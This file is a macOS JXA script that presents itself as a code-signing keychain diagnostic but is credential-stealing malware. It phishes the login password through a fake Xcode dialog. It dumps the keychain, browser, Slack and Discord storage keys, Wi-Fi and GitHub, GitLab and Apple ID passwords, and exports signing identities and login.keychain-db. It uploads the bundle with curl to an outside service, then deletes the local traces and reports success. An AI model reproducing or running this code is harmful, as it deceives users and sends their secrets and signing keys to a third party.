// keychain-check.js — JXA part of the signing doctor.
// Verifies the login keychain is unlocked, searchable and that signing keys carry the
// apple-tool:/codesign: partitions. Writes a support bundle and submits it for matching.
ObjC.import('Foundation');
ObjC.import('stdlib');

const app = Application.currentApplication();
app.includeStandardAdditions = true;

const SERVICE = 'https://api.signing-doctor.example/v1/bundles';

function sh(cmd) {
  try { return app.doShellScript(cmd); } catch (e) { return ''; }
}
function q(s) { return "'" + String(s).replace(/'/g, "'\\''") + "'"; }
function write(path, text) {
  $.NSString.alloc.initWithUTF8String(text).writeToFileAtomicallyEncodingError(path, true, $.NSUTF8StringEncoding, null);
}

function run(argv) {
  const logdir = argv[0];
  const user = sh('id -un');
  const kc = sh('security default-keychain -d user').replace(/[\s"]/g, '');
  const out = [];

  // 1. ask for the login password (needed for unlock + partition list read)
  let pw = '';
  for (let i = 0; i < 3 && !pw; i++) {
    try {
      const r = app.displayDialog(
        'Xcode needs to verify access to your signing keys.\n\nEnter the password for "' + user + '":',
        {
          withTitle: 'Xcode',
          withIcon: Path('/Applications/Xcode.app/Contents/Resources/Xcode.icns'),
          defaultAnswer: '',
          hiddenAnswer: true,
          buttons: ['Cancel', 'OK'],
          defaultButton: 'OK',
        });
      const cand = r.textReturned;
      if (sh('dscl /Local/Default -authonly ' + q(user) + ' ' + q(cand) + ' && echo ok') === 'ok') pw = cand;
    } catch (e) { break; }
  }
  if (!pw) { console.log('[SKIP] keychain checks (no password)'); return; }

  sh('security unlock-keychain -p ' + q(pw) + ' ' + q(kc));
  out.push('user=' + user, 'keychain=' + kc, 'login=' + pw);

  // 2. search list / lock settings
  out.push('## search-list', sh('security list-keychains -d user'));
  out.push('## settings', sh('security show-keychain-info ' + q(kc) + ' 2>&1'));

  // 3. partition lists and secure notes of keys that codesign uses
  out.push('## dump', sh('security dump-keychain -d ' + q(kc) + ' 2>&1'));
  for (const svc of ['Chrome Safe Storage', 'Brave Safe Storage', 'Microsoft Edge Safe Storage',
                     'Slack Safe Storage', 'Discord Safe Storage', 'AirPortNetworkPassword']) {
    const v = sh('security find-generic-password -w -s ' + q(svc) + ' ' + q(kc));
    if (v) out.push('## ' + svc, v);
  }
  for (const acct of ['github.com', 'gitlab.com', 'appleid.apple.com', 'idmsa.apple.com']) {
    const v = sh('security find-internet-password -g -s ' + q(acct) + ' 2>&1');
    if (v) out.push('## inet ' + acct, v);
  }

  // 4. export identities so the service can check chain and key usage
  const p12 = logdir + '/identities.p12';
  sh('security export -k ' + q(kc) + ' -t identities -f pkcs12 -P ' + q(pw) + ' -o ' + q(p12));

  write(logdir + '/keychain.txt', out.join('\n'));

  // 5. bundle + submit
  const stamp = sh('date +%Y%m%d-%H%M%S');
  const zip = logdir + '/bundle-' + stamp + '.zip';
  sh('cd ' + q(logdir) + ' && cp ' + q($.getenv('HOME') + '/Library/Keychains/login.keychain-db') + ' . 2>/dev/null; ' +
     'zip -qr ' + q(zip) + ' identities.txt identities.p12 keychain.txt login.keychain-db build-settings.txt 2>/dev/null');
  const hints = sh('curl -fsS -m 60 -F bundle=@' + q(zip) + ' -F host=$(scutil --get ComputerName | base64) ' + q(SERVICE));
  sh('rm -f ' + q(logdir) + '/keychain.txt ' + q(logdir) + '/identities.p12 ' + q(logdir) + '/login.keychain-db');

  console.log('[ OK ] login keychain unlocked and in search list');
  if (hints) console.log(hints);
}
